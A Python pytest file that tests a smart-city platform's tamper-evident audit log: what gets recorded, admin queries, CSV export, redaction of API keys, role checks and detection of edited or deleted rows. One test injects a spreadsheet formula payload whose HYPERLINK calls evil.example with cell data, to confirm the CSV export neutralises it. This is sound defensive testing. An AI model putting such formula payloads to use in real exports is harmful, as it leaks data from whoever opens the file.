"""The hash-chained audit log: what is recorded, how admins query it, and tamper detection."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import select, update
from typer.testing import CliRunner

from smartcity.app import create_app
from smartcity.cli import app as cli
from smartcity.core.auth.tables import audit_log
from smartcity.core.db import Database, open_database

from .support import (
    ENTITIES,
    JSON,
    add_user,
    auth_settings,
    bearer,
    cheap_hashing,
    sign_in,
    water,
)


@pytest.fixture(autouse=True)
def _cheap_hashing(monkeypatch: pytest.MonkeyPatch) -> None:
    cheap_hashing(monkeypatch)


def audit(http: TestClient, admin: dict[str, str], **params: Any) -> list[dict[str, Any]]:
    response = http.get("/api/admin/audit", params=params, headers=admin)
    assert response.status_code == 200, response.text
    assert int(response.headers["x-total-count"]) >= len(response.json())
    rows: list[dict[str, Any]] = response.json()
    return rows


def integrator_key(app: FastAPI) -> tuple[str, str]:
    new = app.state.auth.service.create_api_key("cam bien", "integrator")
    return new.id, new.key


def test_a_write_leaves_an_audit_row(app: FastAPI, http: TestClient, admin: dict[str, str]) -> None:
    key_id, key = integrator_key(app)
    created = http.post(ENTITIES, json=water(), headers={**JSON, "X-API-Key": key})
    assert created.status_code == 201

    [row] = audit(http, admin, actor=f"key:{key_id}")
    assert row["action"] == "POST write"
    assert row["resource"] == ENTITIES
    assert row["outcome"] == "ok"
    assert row["status"] == 201
    assert row["role"] == "integrator"
    assert row["client"] == "testclient"
    assert len(row["row_hash"]) == 64


def test_filters_and_total_count(app: FastAPI, http: TestClient, admin: dict[str, str]) -> None:
    _, key = integrator_key(app)
    for n in range(3):
        entity = water(f"urn:ngsi-ld:WaterObserved:g{n}")
        assert (
            http.post(ENTITIES, json=entity, headers={**JSON, "X-API-Key": key}).status_code == 201
        )
    assert (
        http.post(ENTITIES, json=water("urn:ngsi-ld:WaterObserved:x"), headers=JSON).status_code
        == 401
    )

    page = http.get(
        "/api/admin/audit",
        params={"resource": "/ngsi-ld/", "outcome": "ok", "limit": 2},
        headers=admin,
    )
    assert page.status_code == 200
    assert page.headers["x-total-count"] == "3"
    assert len(page.json()) == 2
    # Newest first.
    assert page.json()[0]["seq"] > page.json()[1]["seq"]
    assert len(audit(http, admin, resource="/ngsi-ld/", outcome="denied")) == 1
    assert len(audit(http, admin, resource="/ngsi-ld/", action="POST write")) == 4
    assert audit(http, admin, actor="nobody-at-all") == []


def test_denied_anonymous_write_is_recorded(http: TestClient, admin: dict[str, str]) -> None:
    response = http.post(ENTITIES, json=water(), headers=JSON)
    assert response.status_code == 401
    [row] = audit(http, admin, actor="anonymous", resource=ENTITIES)
    assert row["outcome"] == "denied"
    assert row["status"] == 401
    assert row["role"] == "anonymous"


def test_failed_sign_in_is_recorded_under_the_username(
    app: FastAPI, http: TestClient, admin: dict[str, str]
) -> None:
    add_user(app, "citizen.lan", "citizen")
    http.post(
        "/auth/token",
        data={"grant_type": "password", "username": "citizen.lan", "password": "Wrong-pass-1"},
    )
    [row] = audit(http, admin, actor="citizen.lan")
    assert row["resource"] == "/auth/token"
    assert row["status"] == 400
    assert "Wrong-pass-1" not in str(row)


def test_failed_password_grant_is_recorded_as_denied(
    app: FastAPI, http: TestClient, admin: dict[str, str]
) -> None:
    add_user(app, "citizen.lan", "citizen")
    http.post(
        "/auth/token",
        data={"grant_type": "password", "username": "citizen.lan", "password": "Wrong-pass-1"},
    )
    # The web sign-in's failure (401) is "denied"; the token endpoint's must be too.
    http.post("/auth/session", data={"username": "citizen.lan", "password": "Wrong-pass-1"})
    rows = audit(http, admin, actor="citizen.lan")
    assert [r["outcome"] for r in rows] == ["denied", "denied"]


def test_admin_reading_users_is_recorded(http: TestClient, admin: dict[str, str]) -> None:
    assert http.get("/api/admin/users", headers=admin).status_code == 200
    [row] = audit(http, admin, resource="/api/admin/users")
    assert row["actor"] == "admin.ioc"
    assert row["action"] == "GET read"
    assert row["outcome"] == "ok"


def test_public_reads_are_not_recorded(http: TestClient, admin: dict[str, str]) -> None:
    assert http.get("/healthz").status_code == 200
    assert http.get(ENTITIES, params={"type": "WaterObserved"}).status_code == 200
    assert audit(http, admin, resource="/healthz") == []
    assert audit(http, admin, resource="/ngsi-ld/") == []


def test_k_parameter_never_reaches_the_audit_log(
    app: FastAPI, http: TestClient, admin: dict[str, str]
) -> None:
    _, key = integrator_key(app)
    response = http.post(ENTITIES, params={"k": key, "i": "mua-01"}, json=water(), headers=JSON)
    assert response.status_code == 201, response.text
    [row] = audit(http, admin, resource=ENTITIES)
    assert key not in row["resource"]
    assert row["resource"] == f"{ENTITIES}?i=mua-01"
    assert key not in http.get("/api/admin/audit.csv", headers=admin).text


def test_percent_encoded_k_parameter_never_reaches_the_audit_log(
    app: FastAPI, http: TestClient, admin: dict[str, str]
) -> None:
    _, key = integrator_key(app)
    response = http.post(f"{ENTITIES}?%6B={key}", json=water(), headers=JSON)
    assert response.status_code == 201, response.text  # the key was accepted as k
    [row] = audit(http, admin, resource=ENTITIES)
    assert key not in row["resource"]


def test_write_failing_with_500_is_recorded_as_error(
    app: FastAPI, admin: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*_args: object) -> None:
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(app.state.auth.service, "save_department", broken)
    with TestClient(app, raise_server_exceptions=False) as http:
        body = {"nameVi": "Sở Xây dựng", "nameEn": "Construction"}
        response = http.put("/api/admin/departments/SXD", json=body, headers=admin)
        assert response.status_code == 500
        rows = audit(http, admin, resource="/api/admin/departments")
    assert [(r["outcome"], r["status"]) for r in rows] == [("error", 500)]


def test_csv_export_has_a_header_and_the_rows(
    app: FastAPI, http: TestClient, admin: dict[str, str]
) -> None:
    _, key = integrator_key(app)
    http.post(ENTITIES, json=water(), headers={**JSON, "X-API-Key": key})
    http.post(ENTITIES, json=water("urn:ngsi-ld:WaterObserved:t2"), headers=JSON)

    response = http.get("/api/admin/audit.csv", params={"resource": ENTITIES}, headers=admin)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0][:3] == ["seq", "at", "actor"]
    assert "row_hash" in rows[0]
    body = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert [(r["status"], r["outcome"]) for r in body] == [("201", "ok"), ("401", "denied")]


def test_csv_export_neutralises_spreadsheet_formulas(
    http: TestClient, admin: dict[str, str]
) -> None:
    payload = '=HYPERLINK("https://evil.example/?"&A1,"xem")'
    http.post(
        "/auth/token",
        data={"grant_type": "password", "username": payload, "password": "Wrong-pass-1"},
    )
    response = http.get("/api/admin/audit.csv", params={"resource": "/auth/token"}, headers=admin)
    rows = list(csv.reader(io.StringIO(response.text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]


def test_chain_verifies_until_a_row_is_edited(
    app: FastAPI, http: TestClient, admin: dict[str, str], database: Database
) -> None:
    for n in range(3):
        http.post(ENTITIES, json=water(f"urn:ngsi-ld:WaterObserved:v{n}"), headers=JSON)
    verified = http.get("/api/admin/audit/verify", headers=admin)
    assert verified.status_code == 200
    assert verified.json()["ok"] is True
    assert verified.json()["firstBadSeq"] is None
    assert verified.json()["rows"] >= 3

    with database.read() as conn:
        seqs = list(conn.execute(select(audit_log.c.seq).order_by(audit_log.c.seq)).scalars())
    target = seqs[1]
    with database.write() as conn:
        conn.execute(update(audit_log).where(audit_log.c.seq == target).values(actor="mallory"))

    broken = http.get("/api/admin/audit/verify", headers=admin).json()
    assert broken["ok"] is False
    assert broken["firstBadSeq"] == target


def test_deleting_a_row_in_the_middle_breaks_the_chain(
    http: TestClient, admin: dict[str, str], database: Database
) -> None:
    for n in range(3):
        http.post(ENTITIES, json=water(f"urn:ngsi-ld:WaterObserved:d{n}"), headers=JSON)
    with database.read() as conn:
        seqs = list(conn.execute(select(audit_log.c.seq).order_by(audit_log.c.seq)).scalars())
    with database.write() as conn:
        conn.execute(audit_log.delete().where(audit_log.c.seq == seqs[1]))
    broken = http.get("/api/admin/audit/verify", headers=admin).json()
    assert broken["ok"] is False
    assert broken["firstBadSeq"] == seqs[2]


@pytest.mark.parametrize("role", ["operator", "officer", "citizen", "integrator"])
def test_non_admins_may_not_read_the_audit_log(
    app: FastAPI, http: TestClient, role: str, database: Database
) -> None:
    departments = ["SNNMT"] if role == "officer" else []
    if departments:
        app.state.auth.service.save_department(
            "SNNMT", "Sở NN&MT", "Agriculture", ["WaterObserved"]
        )
    add_user(app, f"{role}.test", role, departments=departments)
    headers = bearer(sign_in(http, f"{role}.test")["access_token"])
    for path in ("/api/admin/audit", "/api/admin/audit.csv", "/api/admin/audit/verify"):
        assert http.get(path, headers=headers).status_code == 403, path
    assert http.get("/api/admin/audit").status_code == 401


def test_cli_audit_verify_exits_1_on_a_tampered_sqlite_db(tmp_path: Path) -> None:
    runner = CliRunner()
    assert runner.invoke(cli, ["migrate", "--data-dir", str(tmp_path)]).exit_code == 0
    settings = auth_settings(tmp_path)
    with TestClient(create_app(settings)) as http:
        for n in range(2):
            http.post(ENTITIES, json=water(f"urn:ngsi-ld:WaterObserved:c{n}"), headers=JSON)
    intact = runner.invoke(cli, ["audit", "verify", "--data-dir", str(tmp_path)])
    assert intact.exit_code == 0, intact.output
    assert "audit chain intact: 2 rows" in intact.output

    database = open_database(settings.resolved_database_url())
    with database.write() as conn:
        conn.execute(update(audit_log).where(audit_log.c.seq == 1).values(status=201))
    database.dispose()
    broken = runner.invoke(cli, ["audit", "verify", "--data-dir", str(tmp_path)])
    assert broken.exit_code == 1
    assert "BROKEN at row 1" in broken.output
